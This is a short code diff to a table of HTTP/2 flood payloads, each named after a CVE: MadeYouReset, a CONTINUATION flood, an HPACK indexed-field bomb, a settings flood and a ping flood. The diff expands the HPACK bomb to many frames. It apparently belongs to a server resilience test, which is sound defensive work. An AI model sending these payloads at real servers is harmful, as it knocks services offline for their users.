@@ -78,8 +78,9 @@ FLOODS = {
     "MadeYouReset, CVE-2025-8671": made_to_reset(400),
     "resets between answers": asked_for_nothing(200),
     "a block that does not end, CVE-2024-27316": OPEN + frame(CONTINUATION, 0, 1) * 40,
-    "a bomb of indexed fields, CVE-2016-6581": frame(
-        HEADERS, END_STREAM | END_HEADERS, 1, block(GET) + literal(b"x", b"y" * 3900, 0x40) + b"\xbe" * 12_000
+    "bombs of indexed fields, CVE-2016-6581": b"".join(
+        frame(HEADERS, END_STREAM | END_HEADERS, number, block(GET) + literal(b"x", b"y" * 3900, 0x40) + b"\xbe" * 2000)
+        for number in range(1, 300, 2)
     ),
     "settings, CVE-2019-9515": settings((4, 1000)) * 2000,
     "pings, CVE-2019-9512": frame(PING, 0, 0, bytes(8)) * 2000,
